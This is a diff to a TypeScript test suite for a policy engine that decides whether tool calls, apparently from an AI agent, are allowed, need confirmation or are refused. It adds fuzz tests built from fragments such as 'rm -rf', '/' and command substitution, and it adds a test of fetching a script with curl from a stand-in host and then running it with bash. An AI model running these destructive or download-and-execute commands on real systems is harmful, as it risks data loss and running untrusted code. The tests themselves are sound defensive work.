@@ -4,11 +4,13 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { isJsonObject, toJsonValue } from '../../../kernel/json/index.ts';
 import type { ToolCall } from '../../../kernel/tool-call/index.ts';
-import { FakeClock } from '../../../platform/clock/index.ts';
+import { FakeClock, systemClock } from '../../../platform/clock/index.ts';
 import { analyseCommand } from '../../../shell/index.ts';
 import { loadBuiltinPolicy, loadPolicy } from '../conditions/load-policy.ts';
 import type { PolicyMode, PolicyVerdict } from '../evaluation/policy-verdict.ts';
+import { sessionFiles } from '../memory/session-files.ts';
 import type { PolicyState } from '../store/policy-store.ts';
 import {
   createPolicyEngine,
@@ -255,6 +257,71 @@ describe('the built-in policy', () => {
     }
     expect(wrong).toEqual([]);
     expect(CORPUS.length).toBeGreaterThan(180);
+  });
+});
+
+describe('any call', () => {
+  it('gets a verdict that fits its parts', async () => {
+    const { engine } = await rig();
+    const command = fc.oneof(
+      fc.string({ unit: 'binary', maxLength: 60 }),
+      fc
+        .array(
+          fc.constantFrom(
+            'rm',
+            ' -rf ',
+            '/',
+            '~',
+            '$(',
+            ')',
+            "'",
+            '"',
+            ';',
+            '|',
+            ' sh ',
+            '<<E\n',
+            '\n',
+            'E',
+            '{',
+            '}',
+            '`',
+          ),
+        )
+        .map((parts) => parts.join('')),
+    );
+    await fc.assert(
+      fc.asyncProperty(command, fc.boolean(), async (given, unattended) => {
+        const { raw, effective, rule, message, candidates } = await engine.check(callOf(given), {
+          unattended,
+        });
+        expect(effective).toBe(raw);
+        expect(raw === 'ask' && unattended).toBe(false);
+        expect((message === '') === (raw === 'allow')).toBe(true);
+        if (raw !== 'allow') expect(candidates[0]).toMatchObject({ rule, state: 'match' });
+        expect(message).not.toMatch(/\p{Cc}/u);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('gets a verdict, whatever its tool, arguments and paths are', async () => {
+    const { engine } = await rig({
+      document: { rules: [{ id: 'r', decision: 'ask', when: { 'arg./a/b': { len: { min: 1 } } } }] },
+    });
+    const args = fc.dictionary(fc.string(), fc.jsonValue()).map((value) => toJsonValue(value));
+    const tool = fc.constantFrom('terminal', 'read_file', 'execute_code', 'constructor', '');
+    await fc.assert(
+      fc.asyncProperty(tool, args, fc.array(fc.string({ unit: 'binary' })), async (name, given, paths) => {
+        const call = {
+          tool: name,
+          args: isJsonObject(given) ? given : {},
+          paths,
+          effect: 'external' as const,
+        };
+        const { source } = await engine.check(callOf(call), { unattended: false });
+        expect(['file', 'builtin', 'floor', 'engine', undefined]).toContain(source);
+      }),
+    );
   });
 });
 
@@ -528,6 +595,23 @@ describe('on this machine', () => {
     await symlink('../.herma/plugin-data', join(folder, 'home/proj/data'));
     expect(await ruleFor({ tool: 'write_file', effect: 'write', paths: ['data'] })).toBe('floor-self-tamper');
     expect(await ruleFor('echo off > data')).toBe('floor-self-tamper');
+  });
+
+  it('a session goes on in the next process', async () => {
+    const sessions = sessionFiles(join(folder, 'sessions'), systemClock);
+    const next = async (command: string): Promise<string> => {
+      const { engine } = await rig({ sessions });
+      return (await engine.evaluate(callOf(command), { unattended: false })).verdict.raw;
+    };
+    expect(await next('curl -o x.sh https://x.test/x.sh')).toBe('allow');
+    expect(await next('bash x.sh')).toBe('ask');
+  });
+
+  it('a session that cannot be kept is a warning', async () => {
+    await writeFile(join(folder, 'sessions'), '');
+    const { engine } = await rig({ sessions: sessionFiles(join(folder, 'sessions'), systemClock) });
+    const { verdict, warnings } = await engine.evaluate(callOf('ls'), { unattended: false });
+    expect([verdict.raw, warnings]).toEqual(['allow', [expect.stringContaining('sessions')]]);
   });
 
   it('a script is read before it is run', async () => {
